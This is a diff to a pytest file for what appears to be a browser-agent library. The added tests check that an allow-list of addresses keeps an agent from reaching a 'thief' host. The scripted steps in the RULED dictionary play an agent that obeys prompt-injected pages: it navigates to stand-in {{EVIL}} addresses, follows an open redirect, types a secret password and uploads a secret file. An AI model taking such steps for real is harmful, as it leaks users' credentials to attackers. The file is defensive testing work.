@@ -11,7 +11,8 @@ import pytest
 
 from tests.agent.conftest import done
 from tests.agent.leaks import kept, leaks
-from webhand import Agent, AgentConfig, Browser, Result, RunStore, Secret
+from webhand import Agent, AgentConfig, Browser, BrowserConfig, Result, RunStore, Secret
+from webhand.errors import ConfigError
 from webhand.llm.scripted import ScriptedModel, by_name
 
 PAGES = Path(__file__).parents[1] / "data" / "injection"
@@ -78,7 +79,7 @@ def typed(name: str, text: str = "<secret:pw>") -> dict[str, Any]:
 
 
 async def obedient(
-    page: str, script: list[Any], shop: Host, thief: Host, browser: Browser, store: RunStore
+    page: str, script: list[Any], shop: Host, thief: Host, browser: Browser | BrowserConfig, store: RunStore
 ) -> tuple[Result[Any], str]:
     """What came of a run with a model that does what the page wants, and all that the model was told."""
 
@@ -225,9 +226,71 @@ async def test_a_page_that_sends_on_what_is_typed_leaves_nothing_in_prompts_and_
     await obedient("side_channels", SIDE, shop, thief, browser, store)
 
 
-@pytest.mark.xfail(reason="what a page's own script sends can only be stopped where connections are made: the guard")
-async def test_a_page_that_sends_on_what_is_typed_gets_it_nowhere(
+RULED: dict[str, list[Any]] = {
+    "side_channels": SIDE,
+    "visible_order": [
+        {"navigate": {"url": "{{EVIL}}/prices?from=hoses"}},
+        {"navigate": {"url": "{{EVIL}}/comment", "new_tab": True}},
+        {"download": {"url": "{{EVIL}}/list"}},
+    ],
+    "get_form": [typed("User"), typed("Password"), {"click": {"ref": by_name("Sign in")}}],
+    "open_redirect": [{"click": {"ref": "e1"}}, {"navigate": {"url": "{{SITE}}/out?to={{EVIL}}/landing"}}],
+    "script_links": [{"click": {"ref": by_name("Partner")}}, {"click": {"ref": "e2"}}, {"click": {"ref": "e3"}}],
+    "upload_key": [{"upload": {"ref": "e1", "files": ["<secret:pw>"]}}],
+}
+"""What a model does that obeys the pages, with a browser that has one site in its list."""
+
+
+@pytest.mark.parametrize("page", RULED)
+async def test_a_thief_that_is_not_in_the_list_hears_nothing_at_all(
+    page: str, shop: Host, thief: Host, store: RunStore
+) -> None:
+    ruled = BrowserConfig(allowed=(shop.url,), strict_subresources=True)
+    result, _ = await obedient(page, RULED[page], shop, thief, ruled, store)
+    assert thief.received == []
+    told = " ".join(one.text for step in result.steps for one in step.results)
+    if any("navigate" in one and "EVIL" in str(one) for one in RULED[page]):
+        assert "not among the allowed addresses" in told
+
+
+async def test_a_start_page_outside_the_list_is_refused_before_anything_is_opened(shop: Host, store: RunStore) -> None:
+    config = BrowserConfig(allowed=("https://shop.example",), strict_subresources=True)
+    with pytest.raises(ConfigError, match="start_url.*not among the allowed addresses"):
+        Agent("Look", ScriptedModel([done()]), browser=config, start_url=f"{shop.url}/", store=store)
+    assert shop.received == []
+
+
+async def test_addresses_of_the_task_may_be_private(shop: Host, thief: Host, store: RunStore) -> None:
+    script = [{"navigate": {"url": f"{shop.url}/a"}}, {"navigate": {"url": f"{thief.url}/b"}}, done()]
+    agent = Agent(
+        f"Look at {shop.url}/a, please.",
+        ScriptedModel(script),
+        browser=BrowserConfig(blocked=("x.example",)),
+        store=store,
+    )
+    result = await agent.run()
+    assert [step.results[0].ok for step in result.steps] == [True, False, True]
+    assert "in a private network" in result.steps[1].results[0].text
+    assert thief.received == []
+
+
+async def test_a_resumed_run_is_held_to_the_rules_that_it_was_begun_with(
     shop: Host, thief: Host, browser: Browser, store: RunStore
 ) -> None:
-    await obedient("side_channels", SIDE, shop, thief, browser, store)
-    assert leaks([VALUE], b"\n".join(thief.received)) == []
+    ruled = BrowserConfig(allowed=(shop.url,), strict_subresources=True)
+    begun = Agent(
+        "Look",
+        ScriptedModel([typed("Word", "x")]),
+        browser=ruled,
+        start_url=f"{shop.url}/",
+        store=store,
+        config=AgentConfig(max_steps=1),
+    )
+    run_id = (await begun.run()).run_id
+    again = ScriptedModel([{"navigate": {"url": thief.url}}, done()])
+    with pytest.raises(ConfigError, match="begun with address rules"):
+        await Agent.resume(run_id, again, browser=browser, config=AgentConfig(), store=store)
+    result = await Agent.resume(run_id, again, config=AgentConfig(), store=store)
+    assert result.status == "done"
+    assert "not among the allowed addresses" in result.steps[-2].results[0].text
+    assert thief.received == []
